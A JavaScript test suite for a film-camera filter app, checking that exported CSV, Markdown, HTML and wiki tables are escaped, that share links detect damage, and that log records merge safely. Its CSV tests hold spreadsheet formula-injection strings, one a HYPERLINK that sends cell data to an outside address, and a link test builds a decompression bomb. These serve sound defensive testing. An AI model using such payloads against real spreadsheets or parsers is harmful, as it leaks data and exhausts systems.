// What leaves the phone, read back by others: tables by independent parsers, links by length and damage.
import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import markdownIt from "markdown-it";
import { csv, html, markdown, wiki } from "../../target/modules/day/markup.js";
import { BadLink, linkIn, readLink, writeLink } from "../../target/modules/hand-over/link.js";
import { amended, areRecords, isFoundBy, merged, recordOf } from "../../target/modules/day/record.js";
import { answerTable, logTable } from "../../target/modules/day/columns.js";
import { localIso } from "../../target/modules/document/moment.js";
import { sentence } from "../../target/modules/day/sentence.js";
import { partsToSend } from "../../target/modules/hand-over/offered-set-up.js";
import { demoDocument, demoSetup } from "../../target/modules/document/demo.js";
import { migrate } from "../../target/modules/document/migrate.js";
import { resolve } from "../../target/modules/document/resolve.js";
import { OPEN_UP } from "../../target/modules/questions/open-up.js";
import { openUp } from "../../target/modules/api/glasscall.js";

/** Texts that are markup somewhere. */
const AWKWARD = [
  "plain", "a,b", 'say "it"', "two\nlines", "pipe | pipe", "[[link]] {{use}}", "''thin'' <b>bold</b> &amp;",
  "-3", "* star _under_ `code` #1", "=1+1", "~~~~", "ütf ⅓", "", "! | || !!", "\\ back", "http://example.invalid/",
];
const table = { caption: "A | <caption> & more", head: ["one", "two"], rows: AWKWARD.map((text) => [text, "end"]) };
/** Where only spaces can stand, a line break is one. */
const spaced = (text) => text.replace(/\s+/g, " ");
const NAMED = { lt: "<", gt: ">", quot: '"', amp: "&" };
const decoded = (text) => text.replace(/&(?:#(\d+)|(\w+));/g, (_, code, name) => (code ? String.fromCodePoint(Number(code)) : NAMED[name]));
const cellsOf = (page) => [...page.matchAll(/<td[^>]*>([^]*?)<\/td>/g)].map((found) => found[1]);

test("CSV is read back cell by cell (csv-parse, RFC 4180)", () => {
  const text = csv(table);
  const read = parse(text, { record_delimiter: "\r\n" }).map((row) => row.map((cell) => cell.replace(/^'(?='*\s*[=+\-@])/, "")));
  assert.deepEqual(read, [table.head, ...table.rows]);
  assert.ok(text.endsWith("\r\n"));
});

// What starts a formula: OWASP, “CSV Injection”, www-community/attacks/CSV_Injection; the wide forms with it.
test("no cell of a CSV starts a formula, and numbers stay numbers", () => {
  const harmful = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "'=1", '=HYPERLINK("http://192.0.2.1/"&A1,"see")'];
  const rows = parse(csv({ caption: "", head: ["a"], rows: harmful.map((text) => [text]) }), { record_delimiter: "\r\n" }).slice(1);
  for (const [at, [cell]] of rows.entries()) assert.equal(cell, `'${harmful[at]}`);
  assert.equal(csv({ caption: "", head: ["a"], rows: [["-0.33"], ["+2"], ["2.8"]] }), "a\r\n-0.33\r\n+2\r\n2.8\r\n");
});

// As LibreOffice 7.4 takes them where they stand unmarked: a day, a number, a time, a share, yes.
test("a name stays a name in a spreadsheet, and a time and a number what they are", () => {
  const written = (text) => parse(csv({ caption: "", head: ["a"], rows: [[text]] }), { record_delimiter: "\r\n" })[1][0];
  for (const text of ["1/8", "0.30", "007", "3:4", "10 %", "5 May", "1e5", "TRUE", "falsch", "2026-05-01", "0,9", "1.", "12.5.", "Mai 2026", "(3)", "$5", "5 €", "5 pm", "Mon 5 May", "2026-05-04T18:00"]) {
    assert.equal(written(text), `'${text}`);
  }
  for (const text of ["0.9", "-0.33", "+2", "2.8", "180", "T2.8", "1.2 IR", "4x5.65", "180°", "1/48 s", "2026-06-21T13:00:00+02:00", "marked 5", "0.3; -", "", "dark", "24.89 x 18.66"]) {
    assert.equal(written(text), text);
  }
});

test("the Markdown table is read back cell by cell (markdown-it)", () => {
  const page = markdownIt().render(markdown(table));
  assert.deepEqual(cellsOf(page).map(decoded), table.rows.flat().map(spaced));
  assert.match(page, /<p>A \| &lt;caption&gt; &amp; more<\/p>/);
});

test("the HTML table holds texts, never markup", () => {
  const page = html(table);
  assert.deepEqual(cellsOf(page).map(decoded), table.rows.flat());
  assert.doesNotMatch(page, /<b>/);
});

test("the wiki table has a row a record and no markup inside a cell", () => {
  const lines = wiki(table).split("\n");
  assert.equal(lines[0], '{| class="wikitable"');
  assert.equal(lines.filter((line) => line === "|-").length, 1 + table.rows.length);
  assert.ok(lines.includes("|}"));
  const cells = lines.filter((line) => /^\|( |$)/.test(line)).map((line) => line.slice(2));
  assert.deepEqual(cells.map(decoded), table.rows.flat().map(spaced));
  // What a wiki acts upon: links, templates, quotes, signatures, tags, cell marks.
  for (const cell of cells) assert.doesNotMatch(cell, /\[\[|\{\{|''|~~~|<|\|/);
});

test("a link gives back the set-up and is short", async () => {
  const document = demoDocument();
  const link = await writeLink(partsToSend(document));
  const read = migrate(await readLink(link));
  const { stock, ...inUse } = resolve(document);
  assert.deepEqual({ ...resolve(read), stock }, { ...inUse, stock });
  // Of the demo's own lists it holds what is in use, and so do the lists.
  assert.deepEqual([read.lenses, read.rigs, read.bodies].map((list) => list.map(({ id }) => id)), [["50"], ["matte box"], ["A"]]);
  assert.ok(link.length < 1200, `${link.length} characters`);
  assert.match(link, /^2\.[\w-]+$/);
  assert.equal(linkIn(`#now?s=${link}`), link);
  assert.equal(linkIn("#now"), undefined);
});

test("every damaged character of a link is noticed", async () => {
  const link = await writeLink(partsToSend(demoDocument()));
  for (let at = 2; at < link.length; at += 1) {
    const other = link[at] === "A" ? "B" : "A";
    const damaged = link.slice(0, at) + other + link.slice(at + 1);
    const last = at === link.length - 1;
    // The last character holds bits that no byte has.
    const read = readLink(damaged);
    if (last) await read.catch((error) => assert.equal(error.code, "damaged"));
    else await assert.rejects(read, (error) => error instanceof BadLink && error.code === "damaged", `at ${at}`);
  }
  for (const length of [3, 10, link.length - 2]) await assert.rejects(readLink(link.slice(0, length)), BadLink);
});

test("a link of another version, or one that swells, is not opened", async () => {
  const bomb = `1.${deflateSync(Buffer.alloc(8_000_000, 32)).toString("base64url")}`;
  assert.ok(bomb.length < 16_384);
  await assert.rejects(readLink(bomb), { code: "tooLong" });
  await assert.rejects(readLink(`1.${"A".repeat(20_000)}`), { code: "tooLong" });
  await assert.rejects(readLink("3.AAAA"), { code: "version" });
  // A text that zlib itself made is read: the format is RFC 1950, not ours alone.
  const made = `1.${deflateSync(JSON.stringify({ a: "⅓" })).toString("base64url")}`;
  assert.deepEqual(await readLink(made), { a: "⅓" });
});

const stamp = (id, minute = 0) => ({ id, time: `2031-05-04T14:${String(minute).padStart(2, "0")}:00+02:00`, zone: "Etc/GMT-2" });

function loggedSetup() {
  const document = demoDocument();
  document.today.rigs["matte box"] = { inPlace: [{ slot: "tray 2", piece: "0.6" }, { slot: "tray 1", piece: "0.9" }] };
  Object.assign(document.slate, { scene: "12", take: "4A", lens: "35 mm" });
  return document;
}

/** @param {any} document @param {any} stamped */
const logged = (document, stamped) => recordOf(resolve(document), stamped, document);

test("a record holds the worked example, pieces from the lens outward", () => {
  const record = logged(loggedSetup(), stamp("one"));
  assert.equal(record.stopToSet, "T2.8");
  assert.equal(record.stops.toFixed(2), "4.98");
  assert.equal(record.leftOverStops.toFixed(2), "0.02");
  assert.deepEqual(record.pieces.map((piece) => [piece.slot, piece.id, piece.stops.toFixed(2)]), [["tray 1", "0.9", "2.99"], ["tray 2", "0.6", "1.99"]]);
  assert.equal(
    sentence(record),
    "Camera A; lens 35 mm; set T2.8; in tray 1 0.9, tray 2 0.6, 4.98 stops; EI 800, 24 frames, 180°; read T16 bare; wanted T2.8, left over plus 0.02.",
  );
});

test("a record does not change with the set-up it was made of", () => {
  const setup = loggedSetup();
  const record = logged(setup, stamp("one"));
  const before = JSON.stringify(record);
  setup.kit.pop();
  setup.slate.scene = "13";
  assert.equal(JSON.stringify(record), before);
});

test("amendments stand beside the record and the latest is shown", () => {
  const record = logged(loggedSetup(), stamp("one"));
  const amendment = (id, minute, slate) => ({ version: 1, ...stamp(id, minute), amends: "one", slate });
  const [shown] = amended([record, amendment("b", 9, { note: "late" }), amendment("a", 5, { note: "early", scene: "13" })]);
  assert.equal(shown.slate.note, "late");
  assert.equal(shown.slate.scene, "13");
  assert.deepEqual(shown.disputed, ["note"]);
  assert.equal(shown.record.slate.scene, "12");
  assert.ok(isFoundBy(shown, "13 tray 35"));
  assert.ok(!isFoundBy(shown, "13 absent"));
});

test("what was logged within one second stands newest first, however it is kept", () => {
  const record = logged(loggedSetup(), stamp("one"));
  const [first, second, third] = ["c", "a", "b"].map((id, at) => ({ ...record, id, ...(at > 0 ? { sameTime: at } : {}) }));
  for (const kept of [[first, second, third], [third, first, second], [second, third, first], [third, second, first]]) {
    assert.deepEqual(amended(kept).map((shown) => shown.record.id), ["b", "a", "c"]);
  }
  assert.ok(areRecords([third]));
  assert.ok(!areRecords([{ ...third, sameTime: "2" }]));
});

test("two logs become one and nothing is overwritten", () => {
  const mine = logged(loggedSetup(), stamp("one"));
  const other = logged(demoDocument(), stamp("two", 1));
  const differs = { ...mine, stopToSet: "T4" };
  const once = merged([mine], [mine, other, differs]);
  assert.deepEqual([once.added, once.disputed], [2, 1]);
  assert.deepEqual(once.records.map((one) => one.id), ["one", "two", "one (2)"]);
  const again = merged(once.records, [differs, other, mine]);
  assert.equal(again.added, 0);
  assert.ok(areRecords(JSON.parse(JSON.stringify(once.records))));
  assert.ok(!areRecords([{ ...mine, time: "yesterday" }]));
  assert.ok(!areRecords([{ ...mine, pieces: "none" }]));
});

test("times carry their offset", () => {
  const now = new Date(Date.UTC(2031, 4, 4, 12, 30, 5));
  now.getTimezoneOffset = () => -345;
  assert.equal(localIso(now), "2031-05-04T18:15:05+05:45");
  now.getTimezoneOffset = () => 570;
  assert.equal(localIso(now), "2031-05-04T03:00:05-09:30");
});

test("the log as a table has one heading for each cell", () => {
  const log = logTable(amended([logged(loggedSetup(), stamp("one")), logged(demoDocument(), stamp("two", 1))]));
  for (const row of log.rows) assert.equal(row.length, log.head.length);
  const cell = (name) => log.rows[0][log.head.indexOf(name)];
  assert.equal(cell("Time"), "2031-05-04T14:00:00+02:00");
  assert.equal(cell("Pieces, lens outward"), "tray 1: 0.9; tray 2: 0.6");
  assert.equal(cell("Taken, stops"), "4.98");
});

test("the answer as a table gives each stack a row", () => {
  const setup = demoSetup();
  const answer = openUp(OPEN_UP.request(setup));
  const { caption, head, rows } = answerTable(setup, answer);
  assert.equal(caption, "Read T16 bare, wanted T2.8: 5 stops to take");
  assert.equal(rows.length, answer.stacks.length);
  const first = (at) => ["rotating", "tray 1", "Takes, stops", "Left over, stops"].map((name) => rows[at][head.indexOf(name)]);
  assert.deepEqual(first(0), ["1.2 IR", "0.3", "5.08", "-0.08"]);
  assert.deepEqual(first(1), ["0.9", "0.6", "4.98", "0.02"]);
});
